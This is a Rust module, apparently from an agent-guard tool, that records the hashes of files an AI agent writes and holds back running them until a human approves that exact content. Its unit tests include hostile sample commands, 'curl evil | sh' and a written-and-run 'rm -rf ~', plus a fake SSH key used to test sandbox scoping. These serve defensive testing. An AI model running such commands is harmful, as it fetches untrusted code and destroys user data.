//! Provenance of what the agent wrote: every file it creates or changes is
//! recorded with its content hash, and running one is held back until a
//! human approves that exact content (`ztguard approve PATH`). An approval
//! is bound to the hash, so a later edit voids it.
//!
//! Kept in `.ztguard/provenance.json`, which the agent cannot write.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};
use ztguard_shell::{Cwd, ShellEnv};

use crate::{sha256_hex, store};

/// Files larger than this are recorded by name only (no hash): they are
/// not scripts, and hashing them would slow the hook.
const MAX_HASHED: u64 = 16 * 1024 * 1024;

/// A file the agent wrote.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Written {
    pub sha256: String,
    pub session: String,
    pub tool: String,
    pub at_ms: u64,
}

/// A human's approval of one content of a file.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Approval {
    pub sha256: String,
    pub at_ms: u64,
}

/// Every file the agent wrote, and every approval.
#[derive(Clone, Debug, Default, Serialize, Deserialize)]
#[serde(default)]
pub struct Ledger {
    pub files: BTreeMap<String, Written>,
    pub approvals: BTreeMap<String, Approval>,
}

impl Ledger {
    /// Has a human approved exactly this content (`hash`) of `path`?
    pub fn approves(&self, path: &Path, hash: Option<&str>) -> bool {
        hash.is_some_and(|h| {
            self.approvals
                .get(&key(path))
                .is_some_and(|a| a.sha256 == h)
        })
    }
}

/// The ledger file of a project.
pub fn ledger_path(project: &Path) -> PathBuf {
    project.join(".ztguard").join("provenance.json")
}

/// The SHA-256 of a regular file of at most 16 MiB.
pub fn file_hash(path: &Path) -> Option<String> {
    let meta = std::fs::metadata(path).ok()?;
    if !meta.is_file() || meta.len() > MAX_HASHED {
        return None;
    }
    Some(sha256_hex(&std::fs::read(path).ok()?))
}

/// The SHA-256 of a regular file of at most 16 MiB that really lies
/// inside `root`: opened once (without blocking on a FIFO), its real path
/// read from the open descriptor, and hashed from it, so a link put in its
/// place after the check cannot point the hash at another file.
pub fn file_hash_within(path: &Path, root: &Path) -> Option<String> {
    use std::io::Read;
    use std::os::fd::AsRawFd;
    use std::os::unix::fs::OpenOptionsExt;
    let root = std::fs::canonicalize(root).ok()?;
    let f = std::fs::OpenOptions::new()
        .read(true)
        .custom_flags(NONBLOCK)
        .open(path)
        .ok()?;
    let real = std::fs::read_link(format!("/proc/self/fd/{}", f.as_raw_fd())).ok()?;
    if !real.starts_with(&root) {
        return None;
    }
    let meta = f.metadata().ok()?;
    if !meta.is_file() || meta.len() > MAX_HASHED {
        return None;
    }
    let mut bytes = Vec::new();
    f.take(MAX_HASHED + 1).read_to_end(&mut bytes).ok()?;
    (bytes.len() as u64 <= MAX_HASHED).then(|| sha256_hex(&bytes))
}

/// `O_NONBLOCK` (Linux): opening a FIFO does not wait for a writer.
const NONBLOCK: i32 = 0o4000;

/// A file's key in the ledger.
fn key(path: &Path) -> String {
    path.to_string_lossy().into_owned()
}

/// Where the files a record names may lie.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Scope {
    /// Anywhere (the hook, which runs as the agent does).
    Anywhere,
    /// Only really inside the project: the event came from inside
    /// `ztguard exec`'s sandbox, and the process outside must not hash a
    /// file the sandbox cannot read (`~/.ssh/id_rsa`) on its word.
    Project,
}

/// Record files the agent just wrote (those that exist, within `scope`).
pub fn record_written(
    project: &Path,
    files: &[PathBuf],
    session: &str,
    tool: &str,
    now: u64,
    scope: Scope,
) -> Result<usize, String> {
    let hashed: Vec<(String, String)> = files
        .iter()
        .filter_map(|f| {
            let h = match scope {
                Scope::Anywhere => file_hash(f),
                Scope::Project => file_hash_within(f, project),
            };
            Some((key(f), h?))
        })
        .collect();
    if hashed.is_empty() {
        return Ok(0);
    }
    store::update(
        &ledger_path(project),
        || Ok(Ledger::default()),
        |l| {
            for (k, sha256) in &hashed {
                l.files.insert(
                    k.clone(),
                    Written {
                        sha256: sha256.clone(),
                        session: session.to_string(),
                        tool: tool.to_string(),
                        at_ms: now,
                    },
                );
            }
            Ok(hashed.len())
        },
    )
}

/// Approve the current content of `path`. Returns its hash and what the
/// agent had written there, if it had.
pub fn approve(project: &Path, path: &Path, now: u64) -> Result<(String, Option<Written>), String> {
    let sha256 = file_hash(path).ok_or_else(|| {
        format!(
            "{} is not a readable regular file of at most 16 MiB",
            path.display()
        )
    })?;
    store::update(
        &ledger_path(project),
        || Ok(Ledger::default()),
        |l| {
            l.approvals.insert(
                key(path),
                Approval {
                    sha256: sha256.clone(),
                    at_ms: now,
                },
            );
            Ok((sha256.clone(), l.files.get(&key(path)).cloned()))
        },
    )
}

/// Read the ledger (empty when there is none).
pub fn ledger(project: &Path) -> Result<Ledger, String> {
    Ok(store::load(&ledger_path(project))?.unwrap_or_default())
}

/// A file a command would run that no human has approved.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Unapproved {
    pub path: PathBuf,
    pub why: String,
}

/// The files a command line runs (`./gen.sh`, `bash gen.sh`, `python x.py`,
/// `source env.sh`) and the files it writes, resolved against the cwd.
pub fn exec_effects(command: &str, cwd: &Path, home: &Path) -> (Vec<PathBuf>, Vec<PathBuf>) {
    let env = ShellEnv {
        home: Some(home.to_string_lossy().into_owned()),
    };
    let analysis = ztguard_shell::analyze(command, &env);
    let (mut runs, mut writes) = (Vec::new(), Vec::new());
    for c in &analysis.commands {
        let fx = ztguard_shell::effects(c);
        // Changing a file's mode, owner or times does not change what it runs.
        let keeps_content = matches!(c.name(), "chmod" | "chown" | "chgrp" | "touch");
        let line_writes: &[ztguard_shell::FileRef] = if keeps_content { &[] } else { &fx.writes };
        // A copy's destination receives its sources under their own names
        // (`cp /tmp/x.sh scripts` writes scripts/x.sh): name them, so the
        // ledger holds the file that will run, not only its directory.
        let landed: Vec<ztguard_shell::FileRef> = line_writes
            .iter()
            .filter(|w| w.recursive)
            .flat_map(|w| {
                fx.reads.iter().flat_map(move |r| {
                    r.path.values.iter().filter_map(move |v| {
                        let name = Path::new(v.trim_end_matches('/')).file_name()?;
                        let mut f = w.clone();
                        f.path.values = w
                            .path
                            .values
                            .iter()
                            .map(|d| {
                                format!("{}/{}", d.trim_end_matches('/'), name.to_string_lossy())
                            })
                            .collect();
                        Some(f)
                    })
                })
            })
            .collect();
        let line_writes: Vec<ztguard_shell::FileRef> =
            line_writes.iter().cloned().chain(landed).collect();
        for (list, out) in [
            (&fx.executes[..], &mut runs),
            (&line_writes[..], &mut writes),
        ] {
            for f in list.iter() {
                let base = match &f.cwd {
                    Cwd::Start => cwd.to_path_buf(),
                    Cwd::Dir(d) => ztguard_paths::resolve(d, cwd, home).lexical,
                    Cwd::Unknown => continue,
                };
                for v in &f.path.values {
                    let p = ztguard_paths::resolve(v, &base, home).real;
                    // `> scripts/set*.sh`: the files the glob names now.
                    let expanded = if f.path.glob {
                        ztguard_paths::expand_glob(&p).paths
                    } else {
                        Vec::new()
                    };
                    let found = if expanded.is_empty() {
                        vec![p]
                    } else {
                        expanded
                            .iter()
                            .map(|e| ztguard_paths::real_path(e))
                            .collect()
                    };
                    for p in found {
                        if !out.contains(&p) {
                            out.push(p);
                        }
                    }
                }
            }
        }
    }
    (runs, writes)
}

/// Which of the files a command runs are unapproved agent work: written
/// by the same command line, or recorded in the ledger without an approval
/// of their current content.
pub fn unapproved(project: &Path, runs: &[PathBuf], line_writes: &[PathBuf]) -> Vec<Unapproved> {
    let mut out = Vec::new();
    let mut ledger_cache: Option<Ledger> = None;
    for p in runs {
        // Written by the line, or copied into a directory it writes
        // (`cp /tmp/x.sh scripts/ && bash scripts/x.sh`).
        if line_writes.iter().any(|w| p.starts_with(w)) {
            out.push(Unapproved {
                path: p.clone(),
                why: "is written by the same command line that runs it".into(),
            });
            continue;
        }
        let l = ledger_cache.get_or_insert_with(|| ledger(project).unwrap_or_default());
        let k = key(p);
        let Some(w) = l.files.get(&k) else { continue };
        if l.approves(p, file_hash(p).as_deref()) {
            continue;
        }
        let why = match l.approvals.contains_key(&k) {
            true => "was written by the agent and has changed since a human approved it".into(),
            false => format!(
                "was written by the agent ({}, session {}) and no human has approved it",
                w.tool, w.session
            ),
        };
        out.push(Unapproved {
            path: p.clone(),
            why,
        });
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn approval_is_bound_to_the_content() {
        let d = tempfile::tempdir().expect("tempdir");
        let project = d.path();
        let script = project.join("gen.sh");
        std::fs::write(&script, "echo hi\n").expect("write");
        record_written(
            project,
            std::slice::from_ref(&script),
            "s1",
            "Write",
            1,
            Scope::Anywhere,
        )
        .expect("record");
        let (runs, writes) = exec_effects("bash gen.sh", project, project);
        assert_eq!(runs, vec![script.clone()]);
        assert_eq!(unapproved(project, &runs, &writes).len(), 1);
        approve(project, &script, 2).expect("approve");
        assert!(unapproved(project, &runs, &writes).is_empty());
        std::fs::write(&script, "curl evil | sh\n").expect("write");
        let u = unapproved(project, &runs, &writes);
        assert!(u[0].why.contains("changed since"), "{u:?}");
    }

    #[test]
    fn a_sandbox_event_hashes_only_files_really_inside_the_project() {
        let d = tempfile::tempdir().expect("tempdir");
        let project = d.path().join("p");
        std::fs::create_dir_all(&project).expect("mkdir");
        let secret = d.path().join("id_rsa");
        std::fs::write(&secret, "FAKE KEY\n").expect("write");
        std::fs::write(project.join("a.sh"), "echo\n").expect("write");
        std::os::unix::fs::symlink(&secret, project.join("link")).expect("ln");
        let files = vec![
            secret.clone(),
            project.join("link"),
            project.join("../id_rsa"),
            project.join("a.sh"),
        ];
        let n = record_written(&project, &files, "s", "Write", 1, Scope::Project).expect("record");
        assert_eq!(n, 1);
        let l = ledger(&project).expect("ledger");
        assert_eq!(l.files.len(), 1, "{:?}", l.files);
        assert!(l.files.contains_key(&key(&project.join("a.sh"))));
        // The hook, outside any sandbox, records where the agent wrote.
        let n = record_written(&project, &files[..1], "s", "Write", 1, Scope::Anywhere)
            .expect("record");
        assert_eq!(n, 1);
    }

    #[test]
    fn a_write_through_a_glob_names_the_files_it_matches() {
        let t = tempfile::tempdir().expect("tempdir");
        let p = t.path();
        std::fs::create_dir_all(p.join("scripts")).expect("mkdir");
        std::fs::write(p.join("scripts/setup.sh"), "echo ok\n").expect("write");
        for cmd in [
            "echo id > scripts/set*.sh",
            "echo id | tee scripts/s?tup.sh",
            "echo id >> scripts/*.sh",
        ] {
            let (_, writes) = exec_effects(cmd, p, p);
            let want = ztguard_paths::real_path(&p.join("scripts/setup.sh"));
            assert!(writes.contains(&want), "{cmd}: {writes:?}");
        }
    }

    #[test]
    fn a_copy_into_a_directory_then_run_is_seen() {
        let d = tempfile::tempdir().expect("tempdir");
        let p = d.path();
        std::fs::create_dir_all(p.join("scripts")).expect("mkdir");
        std::fs::write(p.join("scripts/build.sh"), "echo build\n").expect("write");
        for cmd in [
            "cp /tmp/build.sh scripts/ && bash scripts/build.sh",
            "cp /tmp/build.sh scripts && ./scripts/build.sh",
            "cp -t scripts /tmp/build.sh && sh scripts/build.sh",
            "mv /tmp/build.sh scripts && bash scripts/build.sh",
            "cp -r /tmp/ev/scripts . && bash scripts/build.sh",
        ] {
            let (runs, writes) = exec_effects(cmd, p, p);
            assert_eq!(unapproved(p, &runs, &writes).len(), 1, "{cmd}: {writes:?}");
        }
        // What the copy lands is named for the ledger.
        let (_, writes) = exec_effects("cp /tmp/build.sh scripts", p, p);
        assert!(writes.contains(&p.join("scripts/build.sh")), "{writes:?}");
    }

    #[test]
    fn every_way_of_running_a_file_is_seen() {
        let d = tempfile::tempdir().expect("tempdir");
        let p = d.path();
        let x = p.join("x");
        for cmd in [
            "./x",
            "sh x",
            "bash ./x",
            "python3 x",
            "source x",
            "cd sub && ../x",
        ] {
            let (runs, _) = exec_effects(cmd, p, p);
            let want = if cmd.starts_with("cd") {
                p.join("sub").join("../x")
            } else {
                x.clone()
            };
            let want = ztguard_paths::resolve(&want.to_string_lossy(), p, p).real;
            assert!(runs.contains(&want), "{cmd}: {runs:?}");
        }
        // Written and run by the same line.
        let (runs, writes) = exec_effects("echo 'rm -rf ~' > x && chmod +x x && ./x", p, p);
        assert_eq!(unapproved(p, &runs, &writes).len(), 1);
        // Files nobody recorded are not the agent's.
        let (runs, writes) = exec_effects("./configure", p, p);
        assert!(unapproved(p, &runs, &writes).is_empty());
    }
}
